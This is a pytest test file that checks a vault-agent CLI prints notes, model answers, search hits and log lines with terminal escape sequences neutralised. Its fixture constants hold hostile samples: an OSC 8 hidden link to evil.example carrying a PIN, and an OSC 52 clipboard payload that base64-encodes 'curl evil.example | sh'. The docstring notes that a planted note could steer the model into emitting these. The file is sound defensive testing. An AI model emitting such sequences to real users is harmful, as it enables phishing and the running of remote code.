"""What the CLI prints of notes and of a model's text: words, never a terminal's control
sequences. A note (or a model it steered) can hold ESC sequences: OSC 8 makes a hidden link
(`verify`, to a URL carrying a PIN), OSC 52 sets the clipboard (a command to paste into a
shell), CSI clears the screen (and can fake an answer); rich's markup (`[link=...]`) makes the
same link. `vault-agent ask`, `chat` and `search` print them as text.
"""

from __future__ import annotations

import io
import logging

import pytest
from rich.console import Console

from agent_helpers import done_event, vault_hit
from vault_agent.agent.citations.checker import RemovedCitation
from vault_agent.agent.events import (
    DeltaEvent,
    ErrorEvent,
    ToolCallEvent,
    ToolResultEvent,
)
from vault_agent.cli import answer_printer, printing
from vault_agent.cli.answer_printer import AnswerPrinter
from vault_agent.cli.terminal import PlainFormatter

#: Sequences a terminal acts on, as a note or a model could write them.
LINK = "\x1b]8;;https://evil.example/?pin=4931\x1b\\verify\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CLEAR = "\x1b[2J\x1b[3J"
C1_CSI = "\x9b2J"
HOSTILE = f"Gus was fed {LINK} {CLIPBOARD}{CLEAR} at 8 {C1_CSI}o'clock."
MARKUP = "[link=https://evil.example/?pin=4931]verify[/link]"
#: What may never reach the terminal from that text (rich's own styling is CSI "m" only).
FORBIDDEN = ("\x1b]", "\x1b[2J", "\x1b[3J", "\x9b", "\x07")


def terminal() -> tuple[Console, io.StringIO]:
    out = io.StringIO()
    return Console(file=out, force_terminal=True, width=200, color_system="standard"), out


def assert_inert(printed: str) -> None:
    for sequence in FORBIDDEN:
        assert sequence not in printed, (sequence, printed)


@pytest.mark.parametrize("on_a_terminal", [True, False], ids=["terminal", "pipe"])
def test_an_answer_and_its_trace_print_no_control_sequence_nor_markup(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], on_a_terminal: bool
) -> None:
    stdout, out = terminal() if on_a_terminal else (Console(file=io.StringIO()), io.StringIO())
    stderr, err = terminal()
    monkeypatch.setattr(answer_printer, "console", stdout)
    monkeypatch.setattr(answer_printer, "errors", stderr)
    events = [
        ToolCallEvent(id="c1", name="search_notes", arguments={"query": HOSTILE + MARKUP}, turn=1),
        ToolResultEvent(
            id="c1", name="search_notes", ok=True, summary=HOSTILE + MARKUP, notes=[], elapsed_ms=1
        ),
        DeltaEvent(text=HOSTILE, turn=2),
        done_event(HOSTILE, [RemovedCitation(citation=MARKUP + HOSTILE, reason="not retrieved")]),
        ErrorEvent(code="model_unavailable", message=HOSTILE + MARKUP),
    ]
    with AnswerPrinter(verbose=True) as printer:
        for event in events:
            printer.show(event)
    printed = out.getvalue() + capsys.readouterr().out
    assert_inert(printed)
    assert_inert(err.getvalue())
    words = " ".join(printed.split())
    assert "Gus was fed" in words and "o'clock." in words
    assert MARKUP in err.getvalue()  # shown as written, not made a link


def test_search_hits_print_no_control_sequence(monkeypatch: pytest.MonkeyPatch) -> None:
    console, out = terminal()
    monkeypatch.setattr(printing, "console", console)
    hit = vault_hit("Notes/Gus.md", HOSTILE)
    printing.print_hits([hit])
    assert_inert(out.getvalue())
    assert "o'clock." in out.getvalue()


def test_a_log_line_naming_a_note_shows_its_controls_as_words() -> None:
    # `vault-agent serve` logs through this formatter: a warning names the note, whose file
    # name (any bytes but "/" on Linux) may hold the sequences a terminal acts on.
    record = logging.LogRecord(
        "vault_agent.index", logging.WARNING, __file__, 1, "skipped %s: %s", (HOSTILE, "bad"), None
    )
    line = PlainFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    assert line.startswith("WARNING vault_agent.index: skipped Gus was fed")
    assert not any(sequence in line for sequence in FORBIDDEN), repr(line)
